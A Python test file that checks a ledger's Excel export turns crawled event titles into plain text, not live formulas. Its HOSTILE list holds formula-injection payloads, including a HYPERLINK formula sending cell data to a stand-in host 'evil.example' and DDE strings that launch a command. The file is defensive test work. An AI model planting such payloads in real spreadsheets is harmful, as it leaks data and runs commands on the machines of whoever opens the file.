"""Item 13: a crawled title never becomes a live formula in the ledger's Excel export."""

from __future__ import annotations

import io

import pytest
from openpyxl import load_workbook

from core.spreadsheet import safe_cell
from tests.core.workflow.workflow_factories import make_event

HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "+1+cmd|' /C calc'!A0", "-2+3",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def test_hostile_titles_are_text_in_the_ledger_export(wf, users):
    events = [make_event(event_id=f"ev-{n}", grade="II", title=title) for n, title in enumerate(HOSTILE)]
    wf.alerts.raise_from_events(events)
    sheet = load_workbook(io.BytesIO(wf.ledger.export_xlsx(users["leader"]))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    titles = {cell.value for cell in cells if cell.column_letter == "D"}
    for title in HOSTILE:
        assert "'" + title in titles, (title, titles)


@pytest.mark.parametrize("value,shown", [("=1+1", "'=1+1"), ("渠县二中", "渠县二中"), ("a=b", "a=b"),
                                         ("＝1+1", "'＝1+1"), (42, 42), (None, None), ("坏\x01字符", "坏字符")])
def test_every_text_cell_passes_one_rule(value, shown):
    assert safe_cell(value) == shown
